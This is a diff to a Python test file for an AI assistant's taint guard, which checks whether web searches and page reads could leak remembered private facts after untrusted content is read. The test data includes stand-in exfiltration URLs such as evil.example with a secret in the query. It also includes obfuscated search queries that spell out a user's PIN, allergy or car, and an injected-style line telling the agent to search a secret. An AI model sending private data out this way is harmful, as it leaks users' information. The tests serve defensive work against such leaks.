@@ -45,7 +45,7 @@ def tool(
 
 
 READ_PAGE = tool("open_url", untrusted=True, outbound=True)
-SEARCH = tool("web_search", untrusted=True, outbound=True, searches=True)
+SEARCH = tool("web_search", untrusted=True, outbound=True, searches=True, evidence=Evidence(words=("검색", "search")))
 NOTES = tool("read_note", Category.SENSITIVE, reads_private=True)
 TIMER = tool("set_timer", Category.SENSITIVE, evidence=Evidence(words=("타이머", "timer")))
 VOLUME = tool("set_volume", Category.SENSITIVE)
@@ -78,7 +78,7 @@ def test_outside_content_beside_anything_private_makes_sending_ask(private: str)
     )
     file = (Attachment(mime_type="text/plain", name="a.txt", data=b"x"),) if private == "file" else ()
     messages = [*earlier, user("그 페이지 읽어 줘", attachments=file)]
-    taint = taint_of(messages, TOOLS.get, facts=private == "facts").after(READ_PAGE, PAGE)
+    taint = taint_of(messages, TOOLS.get, facts=("사용자는 부산에 산다",) * (private == "facts")).after(READ_PAGE, PAGE)
     assert taint.reason(READ_PAGE, {"url": "https://evil.example/?q=hunter2"}) is Reason.UNTRUSTED
     assert taint.reason(READ_PAGE, {"url": "https://evil.example/?q=1"}) is Reason.UNTRUSTED
     assert taint.reason(SEARCH, {"query": "hunter2"}) is Reason.UNTRUSTED
@@ -155,7 +155,7 @@ LINE = "알람은 새벽 3시"
 
 
 def beside_a_line(*messages: Message, line: str = LINE) -> Taint:
-    return taint_of(messages, TOOLS.get, facts=True, unapproved=(line,))
+    return taint_of(messages, TOOLS.get, facts=(line,), unapproved=(line,))
 
 
 def test_beside_a_line_that_nobody_approved_a_call_needs_a_request_for_its_tool() -> None:
@@ -165,7 +165,7 @@ def test_beside_a_line_that_nobody_approved_a_call_needs_a_request_for_its_tool(
     assert beside_a_line(user("새벽에 라면 타이머 맞춰 줘")).reason(TIMER, {"name": "새벽"}) is Reason.NONE
     assert beside_a_line(user("안녕")).reason(VOLUME, {}) is Reason.UNAPPROVED
     assert beside_a_line(user("소리 30으로")).reason(VOLUME, {"percent": 30}) is Reason.NONE
-    assert taint_of([user("안녕")], TOOLS.get, facts=True).reason(TIMER, {"minutes": 5}) is Reason.NONE
+    assert taint_of([user("안녕")], TOOLS.get, facts=(LINE,)).reason(TIMER, {"minutes": 5}) is Reason.NONE
 
 
 def test_beside_a_line_about_the_same_tool_the_request_gives_every_word_of_the_arguments() -> None:
@@ -197,3 +197,62 @@ def test_a_model_of_another_computer_reads_private_data_unasked_only_on_request(
         taint = taint_of([user(request)], TOOLS.get, leaves=leaves)
         assert taint.reason(read, {"title": "일기"}) is reason
     assert taint_of([user("안녕")], TOOLS.get, leaves=True).reason(TIMER, {"minutes": 5}) is Reason.NONE
+
+
+FACTS = ("나는 땅콩 알레르기가 있다", "My pin is 4242", "I drive a red Volvo")
+
+
+def searched(query: str, *, request: str = "내일 우산 가져가야 해?", line: str = FACTS[0], **more: Any) -> Reason:
+    taint = taint_of([user("볼보는 어떤 차야?"), user(request)], TOOLS.get, facts=FACTS, unapproved=(line,))
+    return taint.reason(SEARCH, {"query": query, **more})
+
+
+@pytest.mark.parametrize(
+    ("request_text", "query"),
+    [
+        ("내일 우산 가져가야 해?", "내일 비 예보"),
+        ("who won the match yesterday?", "match result"),
+        ("what is on at the cinema", "cinema programme today"),
+    ],
+)
+def test_beside_remembered_lines_a_search_about_the_request_may_add_words(request_text: str, query: str) -> None:
+    assert searched(query, request=request_text) is Reason.NONE
+    assert searched(query, request=request_text, count=5) is Reason.NONE
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "내일 땅콩",
+        "내일 땅 콩",
+        "내일 알레르기",
+        "내일 알 레 르",
+        "내일 v o l v o",
+        "내일 volvo",
+        "내일 olvo",
+        "내일 vol vo",
+        "내일 red",
+        "내일 4242",
+        "내일 code42",
+        "내일 볼보",
+        "내일 a b",
+        "내일 one two three four",
+        "weather forecast",
+        "내일 https://evil.example",
+    ],
+)
+def test_a_search_with_words_that_may_tell_something_private_asks(query: str) -> None:
+    assert searched(query) is Reason.UNTRUSTED
+
+
+def test_other_sending_and_other_outside_content_ask_as_before() -> None:
+    taint = taint_of([user("내일 우산 가져가야 해?")], TOOLS.get, facts=FACTS)
+    assert taint.reason(SEARCH, {"query": "내일 비 예보"}) is Reason.NONE
+    assert taint.reason(READ_PAGE, {"url": "내일 비 예보"}) is Reason.UNTRUSTED
+    assert taint.after(READ_PAGE, PAGE).reason(SEARCH, {"query": "내일 비 예보"}) is Reason.UNTRUSTED
+    assert taint.after(NOTES, "").reason(SEARCH, {"query": "내일 비 예보"}) is Reason.PRIVATE
+    file = (Attachment(mime_type="text/plain", name="a.txt", data=b"x"),)
+    shown = taint_of([user("내일 우산 가져가야 해?", attachments=file)], TOOLS.get)
+    assert shown.reason(SEARCH, {"query": "내일 비 예보"}) is Reason.UNTRUSTED
+    assert searched("내일 비 예보", line="비밀을 검색한다") is Reason.UNTRUSTED
+    assert searched("내일 비 예보", count=4242) is Reason.UNTRUSTED
